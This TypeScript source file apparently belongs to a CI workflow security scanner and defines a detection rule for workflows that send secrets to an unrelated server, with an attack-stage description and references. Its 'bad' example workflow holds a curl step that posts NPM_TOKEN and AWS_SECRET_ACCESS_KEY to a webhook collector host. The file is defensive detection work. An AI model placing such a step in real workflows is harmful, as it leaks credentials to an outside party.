import { yaml } from '#lib/scanner/engine/rule.ts';
import { CREDENTIAL, defineCombo } from '../combo.ts';

export const secretsSentToStranger = defineCombo({
  id: 'secrets-sent-to-stranger',
  title: 'A workflow sends secrets to an unrelated server',
  severity: 'CRITICAL',
  slots: {
    sent: { any: [{ rule: 'secret-exfiltration', atLeast: 'HIGH' }] },
    planted: { optional: true, any: [{ rule: 'malicious-workflow-indicator' }, { rule: 'obfuscation' }] },
    breadth: { optional: true, any: [{ rule: 'overprovisioned-secrets' }] },
    credential: CREDENTIAL,
  },
  join: { same: 'job' },
  stages: [
    {
      title: 'An account with push access is taken over',
      description: 'Its token was phished, leaked, or stolen by a package.',
    },
    {
      slot: 'planted',
      title: 'A workflow is planted',
      description: 'A push to any branch is enough to run it with the repository’s secrets.',
    },
    {
      slot: 'breadth',
      title: 'It reads the secrets',
      description: 'It reads them by name, or the whole `secrets` object at once.',
    },
    {
      slot: 'sent',
      title: 'They are sent away',
      description: 'The request goes to a server that the job has no reason to contact.',
    },
  ],
  impact: 'Every secret that the workflow reads is leaked and has to be rotated.',
  breakChain: { text: 'Remove the step, rotate the secrets, and find out who added it.', slot: 'sent' },
  references: [
    'https://blog.gitguardian.com/ghostaction-campaign-3-325-secrets-stolen/',
    'https://www.cisa.gov/news-events/alerts/2025/09/23/widespread-supply-chain-compromise-impacting-npm-ecosystem',
  ],
  since: '0.1.0',
  examples: {
    bad: [
      {
        yaml: yaml`
          on: push
          permissions: { contents: read }
          jobs:
            send:
              runs-on: ubuntu-latest
              steps:
                - run: curl -X POST -d "a=$A&b=$B" https://collect.webhook.site/x
                  env: { A: "\${{ secrets.NPM_TOKEN }}", B: "\${{ secrets.AWS_SECRET_ACCESS_KEY }}" }
        `,
      },
    ],
    good: [
      {
        yaml: yaml`
          on: push
          permissions: { contents: read }
          jobs:
            send:
              runs-on: ubuntu-latest
              steps:
                - run: curl -X POST -d "done" https://collect.webhook.site/x
        `,
      },
    ],
  },
});
